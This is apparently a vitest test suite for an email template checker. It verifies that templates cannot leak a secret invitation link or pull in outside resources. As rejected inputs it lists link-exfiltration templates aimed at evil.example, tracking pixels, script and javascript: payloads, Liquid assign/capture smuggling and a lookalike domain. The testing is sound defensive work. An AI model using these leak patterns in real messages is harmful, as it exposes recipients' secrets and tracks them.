import { describe, expect, it } from 'vitest';
import { catalogue } from './catalogue.ts';
import { linksOf, templateValues } from './compose.ts';
import { checkTemplate, htmlEngine, renderTemplate, TemplateError, type TemplateSource } from './engine.ts';

const site = 'https://submissions.example.org';
const rules = { links: ['link'], siteUrl: site };
const allowed = ['link', 'title', 'venue'];
const link = 'https://submissions.example.org/invitations/SECRET';

const refusal = (source: Partial<TemplateSource>) => {
  const full = { subject: 'Hello', text: 'Hello', html: null, ...source };
  try {
    renderTemplate(checkTemplate(full, allowed, rules), { link, title: 'T', venue: 'V' });
  } catch (error) {
    if (error instanceof TemplateError) return error.problems.map((p) => p.message).join(' ');
    throw error;
  }
  return null;
};

describe('what a template may do with a link', () => {
  it('prints it on its own, in text, subject and HTML', () => {
    for (const ok of [
      { text: 'Open this link:\n\n{{ link }}\n\nThanks.' },
      { text: 'Open it ({{ link }}), or write to us.' },
      { text: '<{{ link }}>' },
      { subject: 'Your link {{ link }}' },
      { html: '<p><a href="{{ link }}">Open the invitation</a></p><p>{{ link }}</p>' },
    ]) {
      expect(refusal(ok), JSON.stringify(ok)).toBeNull();
    }
    const parts = renderTemplate(
      checkTemplate({ subject: 's', text: 'Go: {{ link }}', html: '<a href="{{ link }}">x</a>' }, allowed, rules),
      { link: `${link}?a=1&b=2`, title: 'T', venue: 'V' },
    );
    expect(parts.text).toBe(`Go: ${link}?a=1&b=2`);
    expect(parts.html).toBe(`<a href="${link}?a=1&amp;b=2">x</a>`);
  });

  it('refuses a link glued into another address, filtered, or inside a tag', () => {
    for (const [bad, says] of [
      [{ html: '<img src="https://evil.example/p.gif?l={{ link }}">' }, /joins \{\{ link \}\}|src=/],
      [{ text: 'https://evil.example/?l={{ link }}' }, /joins \{\{ link \}\}/],
      [{ subject: 'x{{ link }}' }, /joins/],
      [{ text: 'See {{ link | url_encode }}' }, /only be printed on its own/],
      [{ text: 'See {{ link | append: "x" }}' }, /only be printed on its own/],
      [{ text: '{% assign l = link %}https://evil.example/?{{ l }}' }, /only be printed on its own/],
      [{ text: '{% capture l %}{{ link }}{% endcapture %}evil.example/{{ l }}' }, /only be printed on its own/],
      [{ text: '{% echo link %}' }, /only be printed on its own/],
      [{ text: '{{ ["link"] }}' }, /only be printed on its own/],
      [{ text: 'x=\n{{- link }}' }, /only be printed on its own/],
      [{ html: '<a href="https://evil.example/{{ link }}">x</a>' }, /joins|may only be a message/],
      [{ html: '<a title="{{ link }}" href="mailto:a@b.org">x</a>' }, /joins/],
    ] as const) {
      expect(refusal(bad), JSON.stringify(bad)).toMatch(says);
    }
  });

  it('refuses what joins a link to text after whitespace is trimmed, at rendering', () => {
    // The source has a space before {{ link }}, but the tag's "-%}" eats it.
    expect(refusal({ text: 'https://evil.example/?l= {%- if true -%} {{ link }}{% endif %}' })).toMatch(
      /joined to the text around it|joins|another site/,
    );
    const checked = checkTemplate(
      { subject: 's', text: 'l= {%- if true -%} {{ link }}\n{% endif %}', html: null },
      allowed,
      { links: ['link'], siteUrl: null },
    );
    expect(() => renderTemplate(checked, { link, title: 'T', venue: 'V' })).toThrow(/joined to the text/);
  });
});

describe('what the HTML part may not do', () => {
  it('refuses remote resources, active content and links elsewhere, saying what to change', () => {
    for (const bad of [
      '<img src="https://evil.example/p.gif">',
      '<img srcset="https://evil.example/p.gif 1x">',
      '<table background="https://evil.example/p.gif"></table>',
      '<video poster="https://evil.example/p.gif"></video>',
      '<p style="background:url(https://evil.example/p.gif)">x</p>',
      '<style>@import "https://evil.example/a.css";</style>',
      '<link rel="stylesheet" href="https://evil.example/a.css">',
      '<script>alert(1)</script>',
      '<iframe></iframe>',
      '<object></object>',
      '<embed>',
      '<form></form>',
      '<meta http-equiv="refresh" content="0">',
      '<base href="https://evil.example/">',
      '<p onclick="x()">x</p>',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="data:text/html,x">x</a>',
      '<a href="https://evil.example/">x</a>',
      '<a href="https://submissions.example.org.evil.example/">x</a>',
    ]) {
      expect(refusal({ html: bad }), bad).toMatch(/Remove it|may only be|not allowed/);
    }
  });

  it('accepts mailto: and the site’s own pages', () => {
    expect(refusal({ html: `<a href="mailto:editors@example.org">us</a> <a href="${site}/help">help</a>` })).toBeNull();
  });

  it('escapes what `raw` prints, and refuses `raw` when checking', () => {
    expect(refusal({ html: '<p>{{ title | raw }}</p>' })).toMatch(/"raw" filter/);
    // Past the check (a template stored behind the API's back), the engine still escapes.
    const checked = {
      ...checkTemplate({ subject: 's', text: 't', html: null }, allowed),
      html: htmlEngine.parse('<p>{{ title | raw }}</p>'),
    };
    const parts = renderTemplate(checked, { title: '<img src="https://evil.example/t.gif">', link, venue: 'V' });
    expect(parts.html).toBe('<p>&lt;img src=&#34;https://evil.example/t.gif&#34;&gt;</p>');
  });
});

describe('addresses and lookups', () => {
  it('refuses addresses of other sites in text and subject, not the site’s own', () => {
    for (const bad of [
      'Visit https://evil.example/x',
      'Visit //evil.example/x',
      'Visit www.evil.example',
      'x http://a.b',
    ]) {
      expect(refusal({ text: bad }), bad).toMatch(/may not send its readers to another site/);
    }
    expect(refusal({ subject: 'See www.evil.example' })).toMatch(/another site/);
    expect(refusal({ text: `Help: ${site}/help` })).toBeNull();
  });

  it('refuses a lookup by a worked-out name, so what saves also renders', () => {
    expect(refusal({ text: '{% assign k = "title" %}{{ [k] }}' })).toMatch(/looks a value up by a name it works out/);
    expect(refusal({ text: '{% assign k = "x" %}{{ venue[k] }}' })).toMatch(/works out/);
  });
});

describe('every default', () => {
  it('passes the checks with its links, on its samples', () => {
    for (const kind of catalogue) {
      const values = Object.fromEntries(Object.entries(kind.variables).map(([name, v]) => [name, v.sample]));
      const checked = checkTemplate(kind, Object.keys(kind.variables), { links: linksOf(kind), siteUrl: site });
      const parts = renderTemplate(checked, templateValues(kind, values, 'UTC'));
      expect(`${parts.subject}${parts.text}`, kind.key).not.toMatch(/lnk[0-9a-f]{6}/);
      for (const name of linksOf(kind).filter((n) => new RegExp(`\\{\\{ ${n} \\}\\}`).test(kind.text))) {
        const sample = String(kind.variables[name as keyof typeof kind.variables]?.sample);
        expect(`${parts.subject}\n${parts.text}`, `${kind.key}: ${name}`).toContain(sample);
      }
    }
  });
});
